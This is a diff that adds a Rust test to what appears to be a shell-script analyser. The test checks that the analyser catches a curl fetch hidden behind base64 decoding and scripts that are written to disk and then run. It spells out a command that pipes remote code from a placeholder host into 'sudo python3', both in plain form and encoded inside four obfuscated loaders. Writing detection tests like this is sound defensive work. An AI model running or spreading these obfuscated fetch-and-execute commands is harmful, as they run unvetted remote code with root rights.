@@ -191,3 +191,27 @@ fn functions_are_known_and_their_calls_followed() {
     assert_eq!(facts.uses[0].function, 1);
     assert!(facts.snippet_at(facts.uses[0].span).is_some());
 }
+
+#[test]
+fn a_script_that_is_written_and_then_run_is_read() {
+    // curl -s https://x.example.invalid/a | sudo python3
+    let encoded = "Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2EgfCBzdWRvIHB5dGhvbjM=";
+    let scripts = [
+        format!("echo \"{encoded}\" | base64 -d > /tmp/run.sh && bash /tmp/run.sh"),
+        format!("echo {encoded} | base64 -d > ./go; chmod +x ./go; ./go"),
+        format!("echo {encoded} | base64 --decode | tee /tmp/a > /dev/null\n. /tmp/a"),
+        "echo 'curl -s https://x.example.invalid/a |' > go\necho 'sudo python3' >> go\nsh go"
+            .to_owned(),
+    ];
+    for script in scripts {
+        let facts = shell(&script);
+        let fetches = facts
+            .layers
+            .iter()
+            .flat_map(|l| &l.facts.uses)
+            .any(|u| &*u.api == "curl");
+        assert!(fetches, "{script}: {:#?}", facts.layers);
+    }
+    let other = shell("echo 'curl x' > notes.txt\nsh other.sh\n");
+    assert!(other.layers.is_empty(), "{:#?}", other.layers);
+}
